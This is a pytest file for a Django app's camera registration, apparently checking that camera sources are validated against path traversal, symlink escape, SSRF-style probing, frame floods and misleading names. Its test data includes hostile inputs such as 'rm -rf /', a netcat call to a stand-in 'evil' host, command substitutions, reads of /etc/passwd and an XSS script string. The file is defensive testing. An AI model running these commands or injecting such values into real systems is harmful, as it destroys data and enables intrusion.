"""Camera registration: sources are checked before they are opened, probed with a timeout, thumbnailed."""

from __future__ import annotations

import time
from pathlib import Path

import numpy as np
import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from gemel_engine.data.synthetic import SceneConfig, SyntheticCamera
from gemel_engine.data.video import write_video
from tests.engine.data.conftest import closed_port, http_server, silent_listener  # noqa: F401 - fixtures
from tests.webapp.test_workloads_factories import make_query, synthetic_source
from webapp.workloads.models import Camera, Query
from webapp.workloads.services import camera_delete, camera_register, camera_update

pytestmark = pytest.mark.django_db


def register(source: str, name: str = "cam", **kwargs) -> Camera:
    return camera_register(name=name, source=source, fps=5.0, width=32, height=32, **kwargs)


def write_clip(path: Path) -> Path:
    camera = SyntheticCamera(SceneConfig(seed=2, width=64, height=48, num_frames=6))
    path.parent.mkdir(parents=True, exist_ok=True)
    write_video([frame.image for frame in camera.frames()], path, fps=5.0, codec="mjpeg")
    return path


def test_it_registers_a_synthetic_camera_with_a_png_thumbnail_of_its_first_frame():
    camera = register(synthetic_source("north"), name="<script>alert(1)</script>")
    assert camera.name == "<script>alert(1)</script>"
    with Image.open(camera.thumbnail.path) as thumb:
        assert thumb.format == "PNG"
        assert np.asarray(thumb).std() > 0  # a real picture, not a blank


def test_it_accepts_a_video_file_inside_the_media_folder(settings):
    clip = write_clip(Path(settings.MEDIA_ROOT) / "videos" / "clip.avi")
    camera = register(f"file://{clip}")
    assert camera.source == str(clip.resolve())
    assert camera.thumbnail


def test_it_accepts_a_relative_path_inside_a_configured_camera_root(settings, tmp_path):
    root = tmp_path / "cameras"
    write_clip(root / "gate.avi")
    settings.CAMERA_FILE_ROOTS = [root]
    camera = register("gate.avi")
    assert camera.source == str((root / "gate.avi").resolve())


@pytest.mark.parametrize("source", ["file:///etc/passwd", "/etc/hostname", "../../etc/passwd"])
def test_it_refuses_paths_outside_the_allowed_roots(source):
    with pytest.raises(ValidationError, match="inside the media folder"):
        register(source)


def test_a_path_outside_the_allowed_roots_is_told_so_whether_or_not_anything_is_there(tmp_path):
    there = write_clip(tmp_path / "elsewhere" / "clip.avi")
    answers = []
    for path in (there, tmp_path / "elsewhere" / "absent.avi"):
        for source in (str(path), f"file://{path}"):
            with pytest.raises(ValidationError) as caught:
                register(source)
            [message] = caught.value.messages
            answers.append(message.replace(repr(str(path)), "PATH"))
    assert set(answers) == {"PATH is outside the allowed folders: file sources must be inside the media folder or "
                            "a folder in GEMEL_CAMERA_FILE_ROOTS"}


@pytest.mark.parametrize("source", ["videos/absent.avi", "file://{media}/videos/absent.avi", "{media}/absent.avi"])
def test_a_path_inside_the_allowed_roots_with_nothing_there_is_no_such_file(settings, source):
    source = source.format(media=Path(settings.MEDIA_ROOT))
    with pytest.raises(ValidationError, match=r"no such file: .* is inside the allowed folders, but nothing is there"):
        register(source)


def test_it_refuses_a_symlink_that_escapes_the_media_folder(settings, tmp_path):
    outside = write_clip(tmp_path / "outside" / "secret.avi")
    link = Path(settings.MEDIA_ROOT) / "link.avi"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside)
    with pytest.raises(ValidationError, match="inside the media folder"):
        register(str(link))


@pytest.mark.parametrize(
    "source",
    [
        "clip.avi; rm -rf /",
        "clip.avi|nc evil 1",
        "$(reboot).avi",
        "`id`.avi",
        "synthetic://north?seed=1`id`",
        "rtsp://cam.local/live;reboot",
        "synthetic://north\x07",
        "synthetic://north\n",
        "http://cam.local/a b",
    ],
)
def test_it_refuses_shell_metacharacters_control_characters_and_whitespace(source):
    with pytest.raises(ValidationError, match=r"metacharacters|whitespace or control"):
        register(source)


def test_it_refuses_a_file_that_is_not_a_video_with_could_not_decode(settings):
    fake = Path(settings.MEDIA_ROOT) / "notes.mp4"
    fake.parent.mkdir(parents=True, exist_ok=True)
    fake.write_bytes(b"this is not a video\n" * 100)
    with pytest.raises(ValidationError, match="could not decode"):
        register(str(fake))
    assert not Camera.objects.exists()


def test_an_unreachable_stream_fails_after_the_probe_timeout_with_a_clear_error(settings, silent_listener, caplog):  # noqa: F811
    settings.CAMERA_PROBE_TIMEOUT_S = 1.0
    started = time.monotonic()
    with pytest.raises(ValidationError, match=r"could not decode.*no video frame within 1s"):
        register(f"http://127.0.0.1:{silent_listener}/stream.mjpeg")
    assert time.monotonic() - started >= 0.9, "it gave up before the probe timeout"
    assert "no answer from" in caplog.text and "within 1s" in caplog.text  # the reason, for the server log only
    assert not Camera.objects.exists()


def test_every_stream_that_gives_no_frame_gets_the_same_answer(settings, silent_listener, closed_port,  # noqa: F811
                                                               http_server):  # noqa: F811
    """Registering cameras must not map the services the server can reach (Redis, PostgreSQL, metadata)."""
    settings.CAMERA_PROBE_TIMEOUT_S = 1.0
    _, server = http_server
    port = server.server_address[1]
    answers = set()
    for source in (f"http://127.0.0.1:{closed_port}/", f"rtsp://127.0.0.1:{closed_port}/live",
                   f"http://127.0.0.1:{silent_listener}/", f"http://127.0.0.1:{port}/absent",
                   f"rtsp://127.0.0.1:{port}/live"):
        with pytest.raises(ValidationError) as caught:
            register(source)
        answers.add(tuple(caught.value.messages))
    assert len(answers) == 1, answers
    assert not Camera.objects.exists()


def test_it_refuses_unknown_schemes_and_a_taken_name():
    with pytest.raises(ValidationError, match="unknown camera source scheme"):
        register("gopher://example.org/1")
    register(synthetic_source("north"), name="north")
    with pytest.raises(ValidationError, match="already taken"):
        register(synthetic_source("east"), name="north")


def test_deleting_a_camera_that_queries_use_is_refused_with_their_names():
    query = make_query("north_vehicles")
    with pytest.raises(ValidationError, match="north_vehicles"):
        camera_delete(camera=query.camera)
    query.delete()
    camera_delete(camera=query.camera)
    assert not Camera.objects.exists()


def test_changing_a_cameras_source_reprobes_it_and_sends_its_queries_back_to_measuring():
    query = make_query("north_vehicles")
    old_thumbnail = query.camera.thumbnail.name
    camera_update(camera=query.camera, source=synthetic_source("north", seed=9))
    query.refresh_from_db()
    assert query.status == Query.Status.PENDING and query.unmerged_accuracy is None
    assert query.camera.thumbnail.name != old_thumbnail


@pytest.mark.parametrize(("source", "fps", "message"), [
    ("synthetic://x?frames=2000000000", 5.0, r"num_frames.*\[1, 1000000\]"),
    ("synthetic://x?frames=50&fps=5e-324", 5.0, r"fps must be a number in \[0\.01, 1000\]"),
    ("synthetic://x?frames=50", 5e-324, r"fps must be a number in \[0\.01, 1000\]"),
    ("synthetic://x?frames=50", 1e9, r"fps must be a number in \[0\.01, 1000\]"),
])
def test_a_camera_that_would_make_the_server_read_without_end_is_refused(source, fps, message):
    with pytest.raises(ValidationError, match=message):
        camera_register(name="flood", source=source, fps=fps, width=32, height=32)
    assert not Camera.objects.exists()


def test_a_measurement_reads_at_most_the_configured_number_of_frames(settings):
    from webapp.workloads.engine import camera_spec

    settings.CAMERA_MAX_FRAMES = 500
    endless = Camera(name="endless", source="synthetic://x?frames=0", fps=5.0, width=32, height=32)
    asks_more = Camera(name="greedy", source="synthetic://x?frames=100000", fps=5.0, width=32, height=32,
                       sampling={"max_frames": 90000})
    asks_less = Camera(name="modest", source="synthetic://x?frames=100000", fps=5.0, width=32, height=32,
                       sampling={"max_frames": 200})
    assert camera_spec(endless).sampling.max_frames == 500
    assert camera_spec(asks_more).sampling.max_frames == 500
    assert camera_spec(asks_less).sampling.max_frames == 200


@pytest.mark.parametrize("name", ["north\x00", "report\u202egnp.exe", "zero\u200bwidth", "tab\there"])
def test_names_that_would_display_as_something_else_are_refused(name):
    with pytest.raises(ValidationError, match="control or invisible formatting characters"):
        register(synthetic_source("north"), name=name)
    assert not Camera.objects.exists()


def test_a_synthetic_camera_over_4k_uhd_pixels_is_refused_through_the_api(operator_client):
    response = operator_client.post(
        "/api/cameras", {"name": "huge", "source": "synthetic://huge?width=4096&height=4096&frames=50"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "frames of 4096x4096 are over the limit of 8,294,400 pixels" in response.json()["detail"]
    assert not Camera.objects.exists()


def test_files_and_streams_over_the_frame_size_limit_are_refused_saying_so(settings, monkeypatch,
                                                                           http_server):  # noqa: F811
    clip = write_clip(Path(settings.MEDIA_ROOT) / "videos" / "clip.avi")
    served, server = http_server
    write_clip(served / "clip.avi")
    monkeypatch.setattr("gemel_engine.data.frames.MAX_FRAME_PIXELS", 64 * 48 - 1)
    for source in (str(clip), f"http://127.0.0.1:{server.server_address[1]}/clip.avi"):
        with pytest.raises(ValidationError, match="frames of 64x48 are over the limit"):
            register(source)
    assert not Camera.objects.exists()
